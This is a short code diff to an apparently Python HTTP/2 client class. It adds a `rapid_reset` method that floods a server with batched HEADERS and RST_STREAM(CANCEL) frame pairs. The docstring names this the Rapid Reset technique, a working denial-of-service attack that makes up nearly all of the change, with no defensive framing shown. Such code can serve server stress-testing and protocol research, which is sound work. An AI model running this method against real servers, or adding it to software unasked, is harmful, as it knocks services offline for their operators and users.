@@ -56,6 +56,18 @@ class H2Conn:
             f.flags.add("END_HEADERS")
         return f
 
+    def rapid_reset(self, path, count):
+        """Sends `count` HEADERS + RST_STREAM(CANCEL) pairs for `path` in one write (Rapid Reset)."""
+        block = self.block(self.request_headers(path))
+        batch = []
+        for i in range(count):
+            sid = 1 + 2 * i
+            batch.append(self.headers_frame(sid, block))
+            r = hf.RstStreamFrame(sid)
+            r.error_code = CANCEL
+            batch.append(r)
+        self.send(*batch)
+
     def pump(self, timeout=0.5):
         """Reads what is available for up to timeout seconds; parses frames."""
         deadline = time.monotonic() + timeout
